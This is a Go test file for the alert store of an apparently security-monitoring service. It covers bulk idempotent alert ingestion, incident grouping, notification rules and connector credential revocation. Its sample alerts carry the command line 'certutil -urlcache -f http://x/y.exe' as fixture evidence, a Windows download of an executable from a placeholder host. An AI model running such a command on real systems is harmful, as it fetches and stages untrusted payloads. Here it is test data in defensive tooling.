package store_test

import (
	"context"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/huntdesk/huntdesk/internal/odata"
	"github.com/huntdesk/huntdesk/internal/store"
	"github.com/huntdesk/huntdesk/internal/store/storetest"
	"github.com/huntdesk/huntdesk/models"
)

// countStatements counts the SQL statements db runs from now on.
func countStatements(t *testing.T, db *store.DB) *atomic.Int64 {
	var n atomic.Int64
	count := func(*gorm.DB) { n.Add(1) }
	cb := db.Gorm().Callback()
	for _, err := range []error{
		cb.Create().Before("gorm:create").Register("test:count_create", count),
		cb.Query().Before("gorm:query").Register("test:count_query", count),
		cb.Update().Before("gorm:update").Register("test:count_update", count),
		cb.Delete().Before("gorm:delete").Register("test:count_delete", count),
		cb.Raw().Before("gorm:raw").Register("test:count_raw", count),
		cb.Row().Before("gorm:row").Register("test:count_row", count),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	return &n
}

func batch(n int, incident func(i int) *string, sev models.Severity, source string) []models.IngestAlert {
	out := make([]models.IngestAlert, n)
	now := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	for i := range out {
		out[i] = models.IngestAlert{ExternalID: fmt.Sprintf("ext-%04d", i), Title: fmt.Sprintf("LOLBin use %d", i), Severity: sev, Category: "Execution",
			DetectionSource: source, Devices: []models.AlertDevice{{ID: fmt.Sprintf("dev-%d", i%7), Name: "host"}},
			Evidence: []models.Evidence{{Kind: "command_line", Value: "certutil -urlcache -f http://x/y.exe"}}, Tags: []string{"lolbin"}}
		if incident != nil {
			out[i].IncidentExternalID = incident(i)
		}
		if err := out[i].Validate(now); err != nil {
			panic(err)
		}
	}
	return out
}

// TestIngestIsIdempotentAndBulk: a batch of 1,000 runs as a handful of
// statements (bulk upserts, not a round trip per alert); the same batch
// again updates all 1,000 and adds no row; incidents group by external id
// and keep their counts and highest severity.
func TestIngestIsIdempotentAndBulk(t *testing.T) {
	db := storetest.Open(t)
	ctx := context.Background()
	org := enrolled(t, db, "Contoso")
	conn := models.Principal{UserID: "cnr_1", OrgID: org.ID, Role: models.RoleConnector}
	inc := func(i int) *string { s := fmt.Sprintf("case-%d", i%10); return &s }
	items := batch(1000, inc, models.SeverityMedium, "EDR")

	n := countStatements(t, db)
	got, err := db.IngestAlerts(ctx, conn, items, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Created) != 1000 || len(got.Updated) != 0 {
		t.Fatalf("first batch: %d created, %d updated", len(got.Created), len(got.Updated))
	}
	if s := n.Load(); s > 40 {
		t.Fatalf("a batch of 1,000 took %d statements; want a bulk upsert (at most 40)", s)
	}
	items[3].Severity, items[3].Status = models.SeverityHigh, models.AlertResolved
	items[3].Validate(time.Now())
	again, err := db.IngestAlerts(ctx, conn, items, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(again.Created) != 0 || len(again.Updated) != 1000 {
		t.Fatalf("re-sent batch: %d created, %d updated", len(again.Created), len(again.Updated))
	}
	q, _ := odata.Parse(store.AlertSchema, nil)
	q.Count = true
	l, count, err := db.Alerts(ctx, org.ID, store.AlertFilter{Query: q})
	if err != nil || *count != 1000 {
		t.Fatalf("rows after two batches: %v %v", count, err)
	}
	if a := l.Items[0]; len(a.Evidence) != 1 || a.Evidence[0].Value != "certutil -urlcache -f http://x/y.exe" || len(a.Tags) != 1 || a.DetectionSource != "EDR" || *a.ExternalID == "" {
		t.Fatalf("an ingested alert: %+v", a)
	}
	incs, n10, err := db.Incidents(ctx, org.ID, store.AlertFilter{Query: odata.Query{Top: 100, Count: true}})
	if err != nil || *n10 != 10 {
		t.Fatalf("incidents: %v %v", n10, err)
	}
	for _, i := range incs.Items {
		want := models.SeverityMedium
		if *i.ExternalID == "case-3" {
			want = models.SeverityHigh
		}
		if i.AlertCount != 100 || i.Severity != want {
			t.Fatalf("incident %s: %d alerts, %s", *i.ExternalID, i.AlertCount, i.Severity)
		}
	}
}

// TestIngestDecidesRecipientsForNewAlertsOnly: rules filter by service source
// and severity; a re-sent alert is not notified again.
func TestIngestDecidesRecipientsForNewAlertsOnly(t *testing.T) {
	db := storetest.Open(t)
	ctx := context.Background()
	org := enrolled(t, db, "Contoso")
	admin := models.Principal{UserID: "usr_admin", OrgID: org.ID, Role: models.RoleCustomerAdmin}
	rule := models.RuleInput{Name: "MDE high", Recipients: []string{"soc@contoso.example"}, MinSeverity: models.SeverityHigh, ServiceSources: []string{models.SourceDefenderForEndpoint}}
	rule.Validate()
	if _, err := db.CreateRule(ctx, admin, org.ID, rule); err != nil {
		t.Fatal(err)
	}
	conn := models.Principal{UserID: "cnr_1", OrgID: org.ID, Role: models.RoleConnector}
	items := batch(3, nil, models.SeverityHigh, "EDR")
	items[1].Severity = models.SeverityLow
	items[2].ServiceSource = "Microsoft Defender for Identity"
	got, err := db.IngestAlerts(ctx, conn, items, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Notify) != 1 || *got.Notify[0].ExternalID != "ext-0000" {
		t.Fatalf("notified: %+v", got.Notify)
	}
	if rs, _ := db.AlertRecipients(ctx, got.Notify[0].ID); len(rs) != 1 || rs[0].Recipient != "soc@contoso.example" {
		t.Fatalf("recipients: %+v", rs)
	}
	again, _ := db.IngestAlerts(ctx, conn, items, nil)
	if len(again.Notify) != 0 {
		t.Fatalf("a re-sent alert notified again: %+v", again.Notify)
	}
}

func TestConnectorCredentials(t *testing.T) {
	db := storetest.Open(t)
	ctx := context.Background()
	org := enrolled(t, db, "Contoso")
	admin := models.Principal{UserID: "usr_admin", OrgID: org.ID, Role: models.RoleCustomerAdmin}
	secret, c, err := db.CreateConnector(ctx, admin, org.ID, models.ConnectorInput{Name: "EDR export"})
	if err != nil {
		t.Fatal(err)
	}
	p, err := db.Authenticate(ctx, secret)
	if err != nil || p.Role != models.RoleConnector || p.OrgID != org.ID || p.UserID != c.ID {
		t.Fatalf("authenticate: %+v %v", p, err)
	}
	if _, err := db.Authenticate(ctx, secret+"x"); models.ErrorCode(err) != models.EUNAUTHORIZED {
		t.Fatalf("a wrong secret: %v", err)
	}
	if _, err := db.RevokeConnector(ctx, admin, "org_other", c.ID); models.ErrorCode(err) != models.ENOTFOUND {
		t.Fatalf("another org revokes: %v", err)
	}
	if _, err := db.RevokeConnector(ctx, admin, org.ID, c.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Authenticate(ctx, secret); models.ErrorCode(err) != models.EUNAUTHORIZED {
		t.Fatalf("a revoked connector: %v", err)
	}
	l, _ := db.Connectors(ctx, org.ID)
	if len(l) != 1 || l[0].RevokedAt == nil || l[0].Hash == secret {
		t.Fatalf("list: %+v", l)
	}
}

// BenchmarkIngest1000 measures a connector's batch of 1,000 new alerts (in
// 10 incidents) end to end through the store; it reports alerts/s. Run it on
// PostgreSQL with DATABASE_URL set (make bench).
func BenchmarkIngest1000(b *testing.B) {
	db := storetest.Open(b)
	ctx := context.Background()
	name, devices := "Bench", 10
	o, err := db.CreateOrg(ctx, models.System, models.OrgCustomer, models.OrgInput{Name: &name, DevicesEnrolled: &devices})
	if err != nil {
		b.Fatal(err)
	}
	conn := models.Principal{UserID: "cnr_1", OrgID: o.ID, Role: models.RoleConnector}
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		items := batch(1000, func(j int) *string { s := fmt.Sprintf("b%d-case-%d", i, j%10); return &s }, models.SeverityMedium, "EDR")
		for j := range items {
			items[j].ExternalID = fmt.Sprintf("b%d-%s", i, items[j].ExternalID)
		}
		if _, err := db.IngestAlerts(ctx, conn, items, nil); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(1000*b.N)/b.Elapsed().Seconds(), "alerts/s")
}
